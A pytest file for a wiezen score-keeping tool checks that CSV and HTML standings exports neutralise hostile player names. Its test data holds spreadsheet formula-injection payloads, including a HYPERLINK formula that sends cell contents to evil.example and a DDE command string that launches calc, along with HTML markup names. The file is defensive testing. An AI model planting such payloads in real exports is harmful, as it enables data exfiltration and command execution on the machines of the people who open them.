"""CSV, HTML and markdown standings, and `sheet --format html`, with hostile player names.

Names that a spreadsheet would run, or HTML markup, cannot be entered (`session start` refuses them), so these
tests write them straight into the ledger with SQL: the export layer must neutralise them anyway.
"""

from __future__ import annotations

import csv
import io
import re
import sqlite3

import pytest
from _ledger_helpers import dump, ok, refused

from wiezen_score.views.safe import safe

DANGER = tuple("=+-@\t\r\n＝＋－＠")
HOSTILE = {
    "jan": '=HYPERLINK("http://evil.example/?x="&A1,"klik")',
    "piet": "+sum(1+1)",
    "mieke": "@cmd|' /C calc'!A0",
    "lotte": "-2+3",
    "bert": "\t=1+1",
}


@pytest.fixture
def db(make_club):
    return make_club("club.db")  # the three club evenings (tests/conftest.py)


def rename(db, names):
    """Hostile names put in behind the tool's back (the tool refuses them, and the schema refuses renames)."""
    conn = sqlite3.connect(str(db))
    with conn:
        conn.execute("DROP TRIGGER players_no_update")
        for old, new in names.items():
            conn.execute("UPDATE players SET name = ? WHERE name = ?", (new, old))
            conn.execute("UPDATE people SET name = ? WHERE name = ?", (new, old))  # (the cache of who is whom)
    conn.close()


def spreadsheet_would_run(cell: str) -> bool:
    return cell.lstrip(" \u00a0\u3000").startswith(DANGER) or cell.startswith(DANGER)


def test_csv_has_no_cell_a_spreadsheet_would_run(db):
    rename(db, HOSTILE)
    text = ok(db, "standings", "--format", "csv").stdout
    # QUOTE_NONNUMERIC: unquoted cells come back as numbers, quoted ones as text
    rows = list(csv.reader(io.StringIO(text), quoting=csv.QUOTE_NONNUMERIC))
    header, body = rows[0], rows[1:]
    assert header[:3] == ["rank", "player", "points"]
    assert len(body) == 5
    for row in body:
        for cell in row:
            if isinstance(cell, str):
                assert not spreadsheet_would_run(cell), repr(cell)
    names = [r[1] for r in body]
    # neutralised with a leading apostrophe; a tab in a name shown as a visible \t (views/safe.py)
    assert sorted(names) == sorted("'" + safe(n) for n in HOSTILE.values())
    points = {r[1][1:].replace("\\t", "\t"): r[2] for r in body}
    # numbers stay numbers, negative ones too (hand-computed, see _club_helpers.ALL)
    assert points == {HOSTILE["lotte"]: 42.0, HOSTILE["bert"]: 0.0, HOSTILE["jan"]: -2.0, HOSTILE["mieke"]: -10.0,
                      HOSTILE["piet"]: -30.0}  # fmt: skip
    assert re.search(r"^1,\"'-2\+3\",42,", text, re.M)
    assert ",-30," in text and ",-31," in text  # piet's total and worst evening: bare negative numbers


def test_csv_plain_names_and_empty_rate(tmp_path):
    db = tmp_path / "c.db"
    f = tmp_path / "e.txt"
    f.write_text("session x 2026-05-01\nplayers an bo cy di\npas\n", encoding="utf-8")
    ok(db, "replay", f)
    rows = list(csv.reader(io.StringIO(ok(db, "standings", "--format", "csv").stdout), quoting=csv.QUOTE_NONNUMERIC))
    assert [r[1] for r in rows[1:]] == ["an", "bo", "cy", "di"]
    rate = rows[0].index("success_rate")
    assert all(r[2] == 0 and r[rate] == "" for r in rows[1:])  # nobody took a contract: no success rate


def test_hostile_names_are_refused_when_entered(tmp_path):
    db = tmp_path / "c.db"
    for bad in ("=HYPERLINK(1)", "+sum", "@cmd", "-1", "<b>x</b>"):
        refused(db, "session", "start", "--players", f"{bad},b,c,d")
    assert not db.exists() or "INSERT INTO" not in "".join(dump(db))
    f = tmp_path / "e.txt"
    f.write_text("players =cmd jan piet mieke\npas\n", encoding="utf-8")
    assert "usable player name" in refused(db, "replay", f)


def test_html_escapes_names(db):
    rename(db, {"bert": "<b>x</b>", "jan": 'jan & "co"'})
    for args in (["standings", "--format", "html"], ["sheet", "--session", "3", "--format", "html"]):
        page = ok(db, *args).stdout
        assert "<b>x</b>" not in page
        assert "&lt;b&gt;x&lt;/b&gt;" in page
        assert "jan &amp; &quot;co&quot;" in page
        assert "<script" not in page.lower() and "<svg" in page and "<table" in page


def test_html_title_is_escaped_and_self_contained(db):
    page = ok(db, "standings", "--format", "html", "--title", "Café <De Kroon>").stdout
    assert page.startswith("<!DOCTYPE html>")
    assert "<title>Café &lt;De Kroon&gt;</title>" in page
    low = page.lower().replace('xmlns="http://www.w3.org/2000/svg"', "")
    for bad in ("<script", "src=", "href=", "url(", "<link", "http"):
        assert bad not in low
    # one polyline per player with more than one evening; the legend names all five
    assert len(re.findall(r"<polyline", page)) == 4
    for p in ("lotte", "bert", "jan", "mieke", "piet"):
        assert f">{p}" in page


def test_html_standings_numbers(db):
    page = ok(db, "standings", "--format", "html").stdout
    rows = re.findall(r"<tr>(.*?)</tr>", page, re.S)
    cells = [re.findall(r"<td[^>]*>(.*?)</td>", r) for r in rows]
    lotte = next(c for c in cells if len(c) > 1 and c[1] == "lotte")
    assert lotte[:8] == ["1", "lotte", "42", "3", "7", "3", "3", "100%"]
    piet = next(c for c in cells if len(c) > 1 and c[1] == "piet")
    assert piet[2] == "-30" and piet[9] == "-31"


def test_sheet_html_running_totals(db):
    page = ok(db, "sheet", "--session", "1", "--format", "html").stdout
    assert "Scoresheet: Week 1, 2026-01-10" in page
    rows = [re.findall(r"<td[^>]*>(.*?)</td>", r) for r in re.findall(r"<tr>(.*?)</tr>", page, re.S)]
    body = [r for r in rows if r]
    # running totals after each entry (see _club_helpers): jan piet mieke lotte
    assert [r[-4:] for r in body] == [
        ["11", "11", "-11", "-11"], ["15", "15", "-23", "-7"], ["3", "3", "-35", "29"], ["3", "3", "-35", "29"],
    ]
    assert body[-1][2] == "totals"
    assert "Points over the evening" in page


def test_sheet_html_marks_voided_entries(db):
    page = ok(db, "sheet", "--session", "2", "--format", "html").stdout
    assert "alleen 6 jan 6 (voided)" in page
    assert ok(db, "sheet", "--session", "2", "--json").stdout == ok(db, "sheet", "--session", "2", "--format", "json").stdout
